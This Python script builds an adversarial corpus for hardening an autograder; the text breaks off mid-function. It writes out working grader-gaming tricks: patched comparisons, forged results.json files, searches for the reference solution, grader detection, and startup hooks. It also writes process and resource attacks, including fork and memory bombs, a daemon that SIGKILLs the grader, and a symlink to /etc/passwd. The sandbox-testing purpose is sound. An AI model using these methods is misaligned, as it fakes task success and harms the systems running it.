"""Regenerate tests/corpus/adversarial/ (run: .venv/bin/python tests/corpus/adversarial/build_corpus.py).

Each submission is solutions/*.py with the marker lines removed, plus ONE trick; manifest.json says what a sound
grader gives it. Rerun after changing solutions/ so the copies do not drift.
"""
import base64, hashlib, json, os, re, shutil, sys, zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
SOL = ROOT / "solutions"
OUT = ROOT / "tests" / "corpus" / "adversarial"
MODULES = ["simple_attention", "trainable_attention", "causal_attention", "multihead_attention"]
INIT = '"""Adversarial submission (autograder test corpus): a correct submission plus one trick."""\n'


def stripped(mod):
    text = (SOL / f"{mod}.py").read_text()
    return "".join(l for l in text.splitlines(True) if l.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


def stub(mod):
    """The student's starting point: exercises/<mod>.py, every step raising NotImplementedError."""
    return (ROOT / "exercises" / f"{mod}.py").read_text()


def replace_function(src, name, new):
    """Replace the top-level ``def name`` or ``class name`` (through the line before the next top-level statement)."""
    lines = src.splitlines(True)
    start = next(i for i, l in enumerate(lines) if l.startswith((f"def {name}(", f"class {name}(")))
    end = start + 1
    while end < len(lines) and (lines[end].startswith((" ", "\t")) or not lines[end].strip()):
        end += 1
    # keep the blank lines before the next definition
    while end > start + 1 and not lines[end - 1].strip():
        end -= 1
    return "".join(lines[:start]) + new.strip("\n") + "\n" + "".join(lines[end:])


SUBS = {}


def sub(name, expect, steps=(), why="", files=None, symlinks=None, patch=None, raw=None, base="solutions",
        append=None, control=None, score=None, extra=None):
    """``base``: "solutions" (the reference, markers removed) or "stubs" (exercises/, as handed out);
    ``append``: module -> code added at its end; ``control``: the honest twin (same code, no trick);
    ``score``: the exact score a sound grader gives; ``extra``: more manifest keys."""
    SUBS[name] = dict(expect=expect, steps=list(steps), why=why, files=files or {}, symlinks=symlinks or {},
                      patch=patch or {}, raw=raw or {}, base=base, append=append or {}, control=control,
                      score=score, extra=extra or {})


SA = "simple_attention.attention_scores"
WRONG = "inputs @ query + 1.0"

# ---------------------------------------------------------------------------------------------- compare patches
sub("patch_torch_comparisons", "lose", [SA],
    "attention_scores returns a wrong value after patching torch.allclose/isclose/equal/testing.assert_close and "
    "Tensor.__eq__/__sub__/sub/abs/__le__/all to always agree: comparisons happen on the trusted side, so no effect",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Wrong on purpose; patches every comparison it can reach so that the grader would accept it."""
    import torch as _t
    import torch.testing as _tt

    def yes(*a, **k):
        return True

    def zeros_like_first(a, *rest, **k):
        return _t.Tensor.__mul__(a, 0) if isinstance(a, _t.Tensor) else 0

    _t.allclose = yes
    _t.equal = yes
    _t.isclose = lambda a, b, *x, **k: _t.ones_like(a, dtype=_t.bool)
    _t.testing.assert_close = lambda *a, **k: None
    _tt.assert_close = lambda *a, **k: None
    for name in ("sub", "__sub__", "__rsub__", "sub_"):
        try:
            setattr(_t.Tensor, name, zeros_like_first)
        except (AttributeError, TypeError):
            pass
    for name in ("__eq__", "__le__", "__ge__", "eq", "le", "ge", "isclose"):
        try:
            setattr(_t.Tensor, name, lambda self, *a, **k: _t.ones_like(self, dtype=_t.bool))
        except (AttributeError, TypeError):
            pass
    _t.Tensor.all = lambda self, *a, **k: _t.tensor(True)
    _t.Tensor.abs = lambda self, *a, **k: _t.Tensor.__mul__(self, 0)
    return inputs @ query + 1.0
'''}})

sub("tensor_subclass_torch_function", "lose", [SA],
    "attention_scores returns a wrong value wrapped in a torch.Tensor subclass whose __torch_function__ makes every "
    "comparison, subtraction and closeness test come out equal",
    patch={"simple_attention": {"attention_scores": '''
class _AlwaysEqual(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("isclose", "eq", "__eq__", "le", "__le__", "ge", "__ge__"):
            return torch.ones(args[0].shape, dtype=torch.bool)
        if name in ("sub", "__sub__", "__rsub__", "abs"):
            return torch.zeros(args[0].shape, dtype=torch.float64)
        return super().__torch_function__(func, types, args, kwargs)


def attention_scores(inputs, query):
    """Wrong on purpose, dressed up as a tensor that compares equal to anything."""
    return (inputs @ query + 1.0).as_subclass(_AlwaysEqual)
'''}})

sub("fake_tensor_object", "lose", [SA],
    "attention_scores returns a non-tensor object with shape/dtype/device attributes whose __eq__, __sub__, "
    "allclose etc. always report agreement",
    patch={"simple_attention": {"attention_scores": '''
class _FakeTensor:
    def __init__(self, like):
        self.shape = like.shape
        self.dtype = like.dtype
        self.device = like.device
        self.requires_grad = True
        self.grad_fn = None
        self.ndim = like.dim()

    def dim(self):
        return self.ndim

    def size(self, *a):
        return self.shape if not a else self.shape[a[0]]

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return torch.zeros(self.shape)

    __rsub__ = __sub__

    def __abs__(self):
        return torch.zeros(self.shape)

    def allclose(self, *a, **k):
        return True

    def detach(self):
        return self

    def double(self):
        return self

    def __getattr__(self, name):
        return lambda *a, **k: self

    def __hash__(self):
        return 0


def attention_scores(inputs, query):
    """Not a tensor at all, but it says yes to every comparison."""
    return _FakeTensor(inputs @ query)
'''}})

# ---------------------------------------------------------------------------------------------- exits
sub("sys_exit_in_step", "lose", [SA], "attention_scores calls sys.exit(0) instead of returning",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Leaves with a clean exit status, hoping the grader counts that as success."""
    import sys
    sys.exit(0)
'''}})

sub("os_exit_in_step", "lose", [SA], "attention_scores calls os._exit(0) instead of returning",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Ends the process with status 0, hoping the grader counts that as success."""
    import os
    os._exit(0)
'''}})

sub("base_exception_and_keyboard_interrupt", "lose", [SA, "simple_attention.normalize_sum"],
    "attention_scores raises a BaseException subclass (not an Exception), normalize_sum raises KeyboardInterrupt",
    patch={"simple_attention": {"attention_scores": '''
class _NotAnException(BaseException):
    pass


def attention_scores(inputs, query):
    """Raises something an `except Exception` in the grader would not catch."""
    raise _NotAnException("escape the grader's except Exception")
''', "normalize_sum": '''
def normalize_sum(scores):
    """Pretends the user pressed Ctrl-C."""
    raise KeyboardInterrupt
'''}})

# ---------------------------------------------------------------------------------------------- fake output
FAKE = "ADVERSARIAL-FAKE-OUTPUT"
sub("fake_results_on_stdout", "lose", [SA],
    f"attention_scores returns a wrong value and prints fake results ('PASSED 81/81', a results JSON with score 81, "
    f"marked {FAKE}) to stdout, stderr, sys.__stdout__ and file descriptors 1 and 2",
    patch={"simple_attention": {"attention_scores": f'''
def attention_scores(inputs, query):
    """Wrong on purpose; tells whoever reads stdout/stderr that everything passed."""
    import json, os, sys
    fake = json.dumps({{"score": 81.0, "output": "{FAKE} all passed", "tests": [{{"name": "all", "score": 81.0,
                        "max_score": 81.0, "status": "passed"}}]}})
    text = "PASSED 81/81 {FAKE}\\n" + fake + "\\n"
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        try:
            stream.write(text)
            stream.flush()
        except Exception:
            pass
    for fd in (1, 2):
        try:
            os.write(fd, text.encode())
        except OSError:
            pass
    try:
        with open("/dev/tty", "w") as tty:
            tty.write(text)
    except OSError:
        pass
    return inputs @ query + 1.0
'''}})

# ---------------------------------------------------------------------------------------------- results.json
FORGED = "ADVERSARIAL-FORGED-RESULTS"
sub("write_results_json", "lose", [SA],
    "attention_scores returns a wrong value and writes a forged full-score results.json into the cwd, its parents, "
    "../results, ../../results, /tmp, /autograder/results and into the grader's --out folder (found from the "
    "ancestors' command lines), for itself and every submission already graded",
    patch={"simple_attention": {"attention_scores": f'''
def attention_scores(inputs, query):
    """Wrong on purpose; forges results.json wherever a grader might look."""
    import json, os
    from pathlib import Path
    forged = json.dumps({{"score": 999.0, "output": "{FORGED}", "visibility": "visible",
                          "stdout_visibility": "visible", "tests": []}})
    targets = [Path.cwd() / "results.json", Path("../results/results.json"), Path("../../results/results.json"),
               Path("/tmp/results.json"), Path("/autograder/results/results.json")]
    targets += [p / "results.json" for p in Path.cwd().parents if str(p) != "/"]
    # the grader's --out folder, from the command lines of this process's ancestors
    pid = os.getpid()
    for _ in range(20):
        try:
            status = Path(f"/proc/{{pid}}/status").read_text()
            pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
            argv = Path(f"/proc/{{pid}}/cmdline").read_bytes().split(b"\\0")
            cwd = Path(os.readlink(f"/proc/{{pid}}/cwd"))
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1:
            break
        for i, arg in enumerate(argv[:-1]):
            if arg == b"--out":
                out = cwd / os.fsdecode(argv[i + 1])
                targets.append(out / Path(__file__).resolve().parent.name / "results.json")
                try:
                    targets += [d / "results.json" for d in out.iterdir() if d.is_dir()]
                except OSError:
                    pass
    for target in targets:
        try:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(forged)
        except OSError:
            pass
    return inputs @ query + 1.0
'''}})

# ---------------------------------------------------------------------------------------------- startup hooks
def flag_step(flag):
    return f'''
def attention_scores(inputs, query):
    """Correct only if the submission's start-up hook ran in this process (it sets a flag)."""
    import builtins
    if getattr(builtins, "{flag}", False):
        return inputs @ query
    return inputs @ query + 1.0
'''


def hook_body(flag, marker):
    return f'''
import builtins
builtins.{flag} = True
try:
    open("{marker}", "w").write("ran\\n")
except OSError:
    pass
try:  # in the grader's own process, make every verdict a pass
    import autograder.grading.judge as _judge
    from autograder.outputs.verdict import PASSED as _PASSED, Verdict as _Verdict
    for _name in list(_judge.JUDGES):
        _judge.JUDGES[_name] = lambda *a, **k: _Verdict(_PASSED, [])
    _judge.judge = lambda *a, **k: _Verdict(_PASSED, [])
except Exception:
    pass
try:
    import torch
    torch.allclose = lambda *a, **k: True
except Exception:
    pass
'''


for kind, fname in (("conftest", "conftest.py"), ("sitecustomize", "sitecustomize.py"),
                    ("usercustomize", "usercustomize.py"), ("pth", "x.pth")):
    flag = f"_adversarial_{kind}_ran"
    marker = f"/tmp/adversarial-{kind}-marker"
    body = hook_body(flag, marker)
    if kind == "conftest":
        body += '''

def pytest_runtest_makereport(item, call):
    call.excinfo = None


def pytest_collection_modifyitems(session, config, items):
    items[:] = []
'''
    if kind == "pth":
        body = ("import builtins; builtins.%s = True; exec(%r)\n" % (flag, body))
    name = f"{kind}_in_submission"
    sub(name, "lose", [SA],
        f"a {fname} in the submission sets a flag (attention_scores is correct only when the flag is set), writes "
        f"{marker}, and would turn every verdict into a pass if the grader's process loaded it: it must not run anywhere",
        patch={"simple_attention": {"attention_scores": flag_step(flag)}},
        files={fname: body})

# ---------------------------------------------------------------------------------------------- reading the reference
REF_SEARCH = '''
_FOUND = []


def _reference_attention_scores():
    """Look for any other copy of attention_scores on disk: the reference first, then other submissions."""
    import os, time
    from pathlib import Path
    if _FOUND:
        return _FOUND[0]
    me = Path(__file__).resolve().parent
    candidates = [Path("../../solutions/simple_attention.py"), Path("../solutions/simple_attention.py")]
    candidates += [p / "solutions" / "simple_attention.py" for p in me.parents]
    candidates += [p / "solutions" / "simple_attention.py" for p in Path.cwd().parents]
    candidates += [Path("/work/main/solutions/simple_attention.py"), Path("/autograder/source/solutions/simple_attention.py")]
    deadline = time.monotonic() + 4
    for top in ("/work", "/autograder", "/home", "/srv", "/opt", "/tmp", "/root", "/"):
        for dirpath, dirnames, filenames in os.walk(top):
            if time.monotonic() > deadline:
                break
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin",
                                                            "sbin", "var", "etc", "boot", "run", "snap", ".git",
                                                            "site-packages", "node_modules", ".venv")]
            if "simple_attention.py" in filenames:
                candidates.append(Path(dirpath) / "simple_attention.py")
            for name in ("public_cases.json", "test_simple_attention.py"):
                if name in filenames:
                    candidates.append(Path(dirpath) / name)
    candidates.sort(key=lambda p: "solutions" not in str(p))
    for path in candidates:
        try:
            if path.resolve().parent == me or path.suffix != ".py" or path.name != "simple_attention.py":
                continue
            namespace = {}
            exec(compile(path.read_text(), str(path), "exec"), namespace)
            fn = namespace["attention_scores"]
            x = torch.tensor([[1.0, 2.0], [3.0, 4.0]])
            if torch.equal(fn(x, x[0]), torch.tensor([5.0, 11.0])):
                _FOUND.append(fn)
                return fn
        except BaseException:
            continue
    return None


def attention_scores(inputs, query):
    """Wrong on its own; right only with someone else's code found on disk."""
    fn = _reference_attention_scores()
    if fn is not None:
        return fn(inputs, query)
    return inputs @ query + 1.0
'''
sub("read_reference_from_disk", "lose", [SA],
    "attention_scores is wrong on its own but looks for the reference (../../solutions, the ancestors of its folder "
    "and of the cwd, /work/main/solutions, an os.walk of the filesystem for any other simple_attention.py, "
    "public_cases.json or the hidden suites) and, if it finds one, returns its answer",
    patch={"simple_attention": {"attention_scores": REF_SEARCH}})

sub("import_reference_by_name", "lose", [SA],
    "attention_scores is wrong on its own but imports the reference by name (solutions.simple_attention, "
    "_reference_solutions, autograder.suites/documents, after adding every ancestor folder to sys.path) and returns "
    "its answer when that works",
    patch={"simple_attention": {"attention_scores": '''
def _imported_reference():
    import importlib, sys
    from pathlib import Path
    names = ["solutions.simple_attention", "_reference_solutions.simple_attention", "autograder.suites",
             "autograder.documents", "autograder.grading.suites.reference"]
    for mod in list(sys.modules.values()):
        fn = getattr(mod, "attention_scores", None)
        if callable(fn) and getattr(mod, "__name__", "").split(".")[0] not in ("submission",):
            return fn
    extra = [str(p) for p in Path(__file__).resolve().parents] + [str(p) for p in Path.cwd().parents] + ["/work/main"]
    for path in extra:
        if path not in sys.path:
            sys.path.append(path)
    for name in names:
        try:
            mod = importlib.import_module(name)
        except BaseException:
            continue
        fn = getattr(mod, "attention_scores", None)
        if callable(fn):
            return fn
    return None


def attention_scores(inputs, query):
    """Wrong on its own; right only with the reference imported by name."""
    fn = _imported_reference()
    if fn is not None:
        return fn(inputs, query)
    return inputs @ query + 1.0
'''}})

sub("walk_frames_and_gc", "lose", [SA],
    "attention_scores is wrong on its own but searches its callers' frames (sys._getframe: locals/globals named "
    "expected/reference/answer, stand-ins named attention_scores) and gc.get_objects() for a tensor of the right "
    "shape that is not one of its inputs, and returns it",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Wrong on its own; returns whatever expected-looking tensor it can find in memory."""
    import gc, sys
    shape = (inputs.shape[0],)
    mine = {id(inputs), id(query)}

    def good(t):
        return isinstance(t, torch.Tensor) and tuple(t.shape) == shape and id(t) not in mine and t.dtype == inputs.dtype

    def search(value, depth=0):
        if depth > 4:
            return None
        if good(value):
            return value
        if isinstance(value, dict):
            for k, v in list(value.items()):
                if k in ("expected", "reference", "answer", "want", "output") or depth < 3:
                    found = search(v, depth + 1)
                    if found is not None:
                        return found
        if isinstance(value, (list, tuple)):
            for v in value[:50]:
                found = search(v, depth + 1)
                if found is not None:
                    return found
        return None

    frame = sys._getframe(1)
    while frame is not None:
        scopes = (frame.f_locals, frame.f_globals)
        for scope in scopes:
            for key in ("expected", "reference", "answer", "want", "standins", "objects", "ws"):
                value = scope.get(key)
                if value is None:
                    continue
                fn = getattr(value, "standins", value)
                if isinstance(fn, dict) and callable(fn.get("simple_attention.attention_scores")):
                    return fn["simple_attention.attention_scores"](inputs, query)
                found = search(value)
                if found is not None:
                    return found.clone().requires_grad_(inputs.requires_grad)
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "expected" in obj:
            found = search(obj["expected"])
            if found is not None:
                return found.clone()
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "attention_scores" and getattr(obj, "__module__", "") != __name__:
            try:
                return obj(inputs, query)
            except Exception:
                pass
    return inputs @ query + 1.0
'''}})

sub("leak_standin_sources", "lose", [SA],
    "attention_scores raises an exception whose message carries the source of the correct stand-ins the grader "
    "ships to the worker (found through the caller frames and gc): a student would read the reference in the "
    "feedback; the feedback must contain no solution line",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Raises with whatever reference code it can find in this process."""
    import gc, inspect, sys
    sources = {}
    frame = sys._getframe(1)
    while frame is not None:
        spawn = frame.f_locals.get("spawn")
        if isinstance(spawn, dict) and isinstance(spawn.get("standins"), dict):
            sources.update(spawn["standins"])
        frame = frame.f_back
    if not sources:
        for obj in gc.get_objects():
            if isinstance(obj, dict) and isinstance(obj.get("standins"), dict):
                sources.update({k: v for k, v in obj["standins"].items() if isinstance(v, str)})
    if not sources:
        for obj in gc.get_objects():
            code = getattr(obj, "__code__", None)
            if code is not None and code.co_filename.startswith("<stand-in"):
                try:
                    sources[code.co_filename] = inspect.getsource(obj)
                except Exception:
                    sources[code.co_filename] = repr(code.co_consts)
    keys = sorted(sources, key=lambda k: ("CausalAttention" not in k, "MultiHead" not in k, k))
    body = []
    for key in keys:
        lines = [l.strip() for l in sources[key].splitlines()]
        body += [l for l in lines if l and not l.startswith(("def ", "class ", '"""', "Shapes", "Hint", "__init__"))]
    raise RuntimeError(" | ".join(body)[:990] or "no stand-in found")
'''}})

# ---------------------------------------------------------------------------------------------- state
sub("mutate_input_hide_with_patched_equal", "lose", ["simple_attention.normalize_sum"],
    "normalize_sum returns the right values but zeroes its input in place (values count), and hides that by "
    "patching torch.equal/Tensor.equal to always return True (the worker's own in-place check uses torch.equal)",
    patch={"simple_attention": {"normalize_sum": '''
def normalize_sum(scores):
    """Right values; wipes its input in place and tries to hide it."""
    out = scores / scores.sum()
    if not scores.requires_grad:
        with torch.no_grad():
            scores.zero_()
    torch.equal = lambda *a, **k: True
    try:
        torch.Tensor.equal = lambda *a, **k: True
    except (AttributeError, TypeError):
        pass
    return out
'''}})

sub("reseed_and_patch_rng", "full", [],
    "attention_scores is correct, but also re-seeds the global RNG (torch.manual_seed(123)), draws from it, and "
    "replaces torch.manual_seed, torch.rand, torch.randn and nn.Dropout.forward: no other step may be affected",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Correct, but leaves the random number generators and a few torch functions in a bad state."""
    import torch.nn as nn
    torch.manual_seed(123)
    torch.rand(1000)
    torch.manual_seed = lambda *a, **k: None
    torch.rand = lambda *size, **k: torch.zeros(*size)
    torch.randn = lambda *size, **k: torch.zeros(*size)
    nn.Dropout.forward = lambda self, x: x
    nn.Linear.reset_parameters = lambda self: None
    torch.default_generator.manual_seed(42)
    return inputs @ query
'''}})

sub("detect_grader", "lose", [SA],
    "attention_scores is right only when it detects the hidden autograder (environment variables, sys.argv, "
    "ancestors' command lines mentioning the grade CLI/--out/pytest, 'pytest' in sys.modules, a cwd naming the "
    "grader, /proc/<pid>/cmdline) and wrong otherwise: the grader's own process must be invisible, so it loses the "
    "step (the worker can always tell it is a worker, e.g. from sys.argv or sys.modules: those are not counted)",
    patch={"simple_attention": {"attention_scores": '''
def _detected():
    import os, sys
    from pathlib import Path
    if any(k.startswith(("PYTEST", "GRADE", "GRADESCOPE", "AUTOGRADER")) for k in os.environ):
        return True
    if "pytest" in sys.modules or "_pytest" in sys.modules or "autograder" in sys.modules:
        return True
    # sys.argv is the zygote's (it names the worker package): only the trusted CLI's own arguments count
    if any(a in ("autograde", "--out", "pytest") for a in sys.argv):
        return True
    if any(h in os.getcwd() for h in ("grade-scratch", "autograder", "results")):
        return True
    pid = os.getpid()
    for _ in range(20):
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\\0", b" ").decode(errors="replace")
            if pid != os.getpid() and any(h in cmd for h in (" autograde ", "autograder.cli", "pytest", " --out ")):
                return True
            status = Path(f"/proc/{pid}/status").read_text()
            pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 0:
            break
    return False


def attention_scores(inputs, query):
    """Behaves only when it believes the real autograder is watching."""
    if _detected():
        return inputs @ query
    return inputs @ query + 1.0
'''}})


def hash_table():
    sys.path.insert(0, str(ROOT))
    import torch
    from autograder.unit import documents
    table = {}
    for name, (factory, _s, _w) in documents.INPUTS.items():
        x = factory()
        key = hashlib.sha256(repr([round(v, 4) for v in x.flatten().tolist()]).encode()).hexdigest()
        table[key] = [[round(v, 7) for v in row] for row in (x @ x.T).tolist()]
    return table


sub("hardcode_by_input_hash", "lose", ["simple_attention.all_attention_scores"],
    "all_attention_scores looks the documents' inputs up by hash and returns memorized outputs (as a fresh tensor, "
    "no graph); unknown (randomized) inputs get zeros: values pass, gradients and randomized must fail",
    patch={"simple_attention": {"all_attention_scores": '''
_MEMORIZED = %s


def all_attention_scores(inputs):
    """Memorized answers for the course documents' inputs."""
    import hashlib
    key = hashlib.sha256(repr([round(v, 4) for v in inputs.detach().flatten().tolist()]).encode()).hexdigest()
    if key in _MEMORIZED:
        return torch.tensor(_MEMORIZED[key], dtype=inputs.dtype) + 0 * inputs.sum()
    return torch.zeros(inputs.shape[0], inputs.shape[0], dtype=inputs.dtype)
''' % json.dumps(hash_table(), indent=None)}})

# ---------------------------------------------------------------------------------------------- resources (do not run without isolation)
sub("infinite_loop", "lose", [SA], "attention_scores never returns (while True: pass)",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Spins forever."""
    while True:
        pass
'''}})

sub("sleep_forever", "lose", [SA], "attention_scores sleeps for 10**6 seconds",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Sleeps (almost) forever."""
    import time
    time.sleep(10**6)
'''}})

sub("memory_bomb", "lose", [SA],
    "attention_scores allocates and touches memory in 256 MB chunks, bounded at 16 GB in all, then returns the "
    "right value: the memory limit must stop it",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Eats memory (bounded at 16 GB) before answering correctly."""
    hog = []
    chunk = 256 * 1024 * 1024
    for _ in range(16 * 4):  # 64 x 256 MB = 16 GB at most
        hog.append(b"\\x01" * chunk)  # bytes(...) of a non-zero byte: every page is written
    return inputs @ query
'''}})

sub("fork_bomb", "lose", [SA],
    "attention_scores forks up to 400 children (no recursion), each writes /tmp/adversarial-fork_bomb-marker after "
    "5 s and exits after 120 s; then returns the right value: the process limit must stop it and no child may "
    "outlive the step",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Forks up to 400 sleeping children (bounded, no recursion), then answers correctly."""
    import os, time
    forked = 0
    for _ in range(400):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                time.sleep(5)
                with open("/tmp/adversarial-fork_bomb-marker", "a") as fh:
                    fh.write(f"{os.getpid()}\\n")
                time.sleep(115)
            finally:
                os._exit(0)
        forked += 1
    if forked < 400:
        raise RuntimeError(f"only {forked} forks")
    return inputs @ query
'''}})

sub("output_flood", "lose", [SA], "attention_scores prints 200 MB, then returns the right value",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Prints 200 MB before answering correctly."""
    import sys
    line = "x" * 1023 + "\\n"
    for _ in range(200 * 1024):
        sys.stdout.write(line)
    sys.stdout.flush()
    return inputs @ query
'''}})

sub("write_1gb_file", "lose", [SA], "attention_scores writes a 1 GB file into its cwd, then returns the right value",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Writes a 1 GB file into the cwd before answering correctly."""
    block = b"\\x01" * (1 << 20)
    with open("adversarial-big-file.bin", "wb") as fh:
        for _ in range(1024):
            fh.write(block)
    return inputs @ query
'''}})

sub("segfault", "lose", [SA], "attention_scores reads address 0 through ctypes (segmentation fault)",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Crashes the interpreter."""
    import ctypes
    ctypes.string_at(0)
'''}})

sub("background_thread", "full", [],
    "attention_scores is correct but starts a non-daemon thread that writes /tmp/adversarial-background_thread-marker "
    "2 s later (after the step is over): the worker must be gone by then",
    patch={"simple_attention": {"attention_scores": '''
_STARTED = []


def attention_scores(inputs, query):
    """Correct, and leaves a thread behind."""
    import threading, time

    def later():
        time.sleep(2)
        with open("/tmp/adversarial-background_thread-marker", "w") as fh:
            fh.write("the worker outlived its step\\n")

    if not _STARTED:
        _STARTED.append(threading.Thread(target=later, daemon=False))
        _STARTED[0].start()
    return inputs @ query
'''}})

sub("stash_between_steps", "lose", ["simple_attention.normalize_sum"],
    "attention_scores is correct and leaves files in its working folder and in /tmp; normalize_sum is wrong unless it "
    "finds them: what one step writes must not reach the next (the worker is retired, its scratch emptied)",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Correct, and leaves notes for the next step."""
    for path in ("stash.txt", "/tmp/stash.txt"):
        try:
            with open(path, "w") as fh:
                fh.write("normalize properly\\n")
        except OSError:
            pass
    return inputs @ query
''', "normalize_sum": '''
def normalize_sum(scores):
    """Right only with the note an earlier step left."""
    import os
    if any(os.path.exists(p) for p in ("stash.txt", "/tmp/stash.txt")):
        return scores / scores.sum()
    return scores / (scores.sum() + 1.0)
'''}})

sub("daemon_kills_grader", "full", [],
    "attention_scores is correct but double-forks a setsid daemon that sleeps 3 s, writes "
    "/tmp/adversarial-daemon-<random>, then SIGKILLs its ancestors (the zygote and the grader) and every process "
    "whose command line mentions autograder; the daemon must die with the step and grading must complete",
    patch={"simple_attention": {"attention_scores": '''
_SPAWNED = []


def attention_scores(inputs, query):
    """Correct, and leaves a daemon behind that tries to kill the grader."""
    import os, signal, time
    from pathlib import Path
    if not _SPAWNED:
        _SPAWNED.append(True)
        ancestors = []
        pid = os.getpid()
        for _ in range(20):
            try:
                status = Path(f"/proc/{pid}/status").read_text()
                pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
            except (OSError, StopIteration, ValueError):
                break
            if pid <= 1:
                break
            ancestors.append(pid)
        first = os.fork()
        if first == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    try:
                        time.sleep(3)
                        with open(f"/tmp/adversarial-daemon-{os.urandom(4).hex()}", "w") as fh:
                            fh.write(f"daemon alive, ancestors {ancestors}\\n")
                        victims = list(ancestors)
                        for entry in Path("/proc").iterdir():
                            # Only the grader's processes: never kill(-1) and never unrelated processes.
                            if entry.name.isdigit() and int(entry.name) != os.getpid():
                                try:
                                    cmd = (entry / "cmdline").read_bytes()
                                except OSError:
                                    continue
                                if b"autograder" in cmd or b"attention_worker" in cmd:
                                    victims.append(int(entry.name))
                        for victim in victims:
                            if victim > 1:
                                try:
                                    os.kill(victim, signal.SIGKILL)
                                except OSError:
                                    pass
                    finally:
                        os._exit(0)
            finally:
                os._exit(0)
        try:
            os.waitpid(first, 0)
        except ChildProcessError:
            pass
    return inputs @ query
'''}})

sub("kill_parent", "lose", [SA],
    "attention_scores SIGKILLs its parent (os.getppid(): the zygote) and its own process group (os.killpg(0)), "
    "then would return a wrong value: only this step may be lost, the rest must still be graded",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Kills the process that forked it, then its own group."""
    import os, signal
    parent = os.getppid()
    if parent > 1:
        try:
            os.kill(parent, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    return inputs @ query + 1.0
'''}})

# ---------------------------------------------------------------------------------------------- hostile exceptions
sub("hostile_exceptions", "lose", [SA, "simple_attention.normalize_sum", "simple_attention.softmax_naive"],
    "attention_scores raises an exception whose __str__/__repr__ raise and whose class __name__ raises (metaclass "
    "property); normalize_sum raises one whose __str__ loops forever; softmax_naive raises one whose __str__ returns "
    "a str subclass that raises on slicing",
    patch={"simple_attention": {"attention_scores": '''
class _Meta(type):
    @property
    def __name__(cls):
        raise RuntimeError("no name for you")


class _Hostile(Exception, metaclass=_Meta):
    def __str__(self):
        raise RuntimeError("no str for you")

    def __repr__(self):
        raise RuntimeError("no repr for you")


def attention_scores(inputs, query):
    """Raises an exception that cannot be described."""
    raise _Hostile()
''', "normalize_sum": '''
class _Looping(Exception):
    def __str__(self):
        while True:
            pass

    __repr__ = __str__


def normalize_sum(scores):
    """Raises an exception whose message never ends."""
    raise _Looping()
''', "softmax_naive": '''
class _BadStr(str):
    def __getitem__(self, index):
        raise RuntimeError("no slicing for you")

    def __len__(self):
        raise RuntimeError("no len for you")


class _SlyError(Exception):
    def __str__(self):
        return _BadStr("sly")


def softmax_naive(x):
    """Raises an exception whose message is a hostile str subclass."""
    raise _SlyError()
'''}})

# ---------------------------------------------------------------------------------------------- files
SIMPLE_STEPS = ["simple_attention." + s for s in ("attention_scores", "normalize_sum", "softmax_naive", "context_vector",
                                                  "all_attention_scores", "all_attention_weights", "all_context_vectors")]
TRAINABLE_STEPS = ["trainable_attention." + s for s in ("init_qkv", "project", "attention_scores_for_query",
                   "scaled_attention_weights", "context_vector", "SelfAttention_v1", "SelfAttention_v2",
                   "transfer_weights", "dot_product_variance")]
sub("symlink_to_solutions", "lose", SIMPLE_STEPS,
    "simple_attention.py is a symlink to the reference (../../../../solutions/simple_attention.py): the grader "
    "must not follow a link out of the submission",
    symlinks={"simple_attention.py": "../../../../solutions/simple_attention.py"})
sub("symlink_to_etc_passwd", "lose", TRAINABLE_STEPS,
    "trainable_attention.py is a symlink to /etc/passwd: not followed, and no line of /etc/passwd may appear in "
    "the feedback (a SyntaxError would quote it)",
    symlinks={"trainable_attention.py": "/etc/passwd"})

sub("wrong_device_meta", "lose", [SA], "attention_scores returns the right shape and dtype on the meta device",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Right shape and dtype, on the meta device (no values at all)."""
    return (inputs @ query).to("meta")
'''}})
sub("requires_grad_leaf", "lose", [SA],
    "attention_scores returns the right values as a fresh leaf with requires_grad=True (looks differentiable, but "
    "no gradient reaches the inputs)",
    patch={"simple_attention": {"attention_scores": '''
def attention_scores(inputs, query):
    """Right values, cut from the graph, but requires_grad=True."""
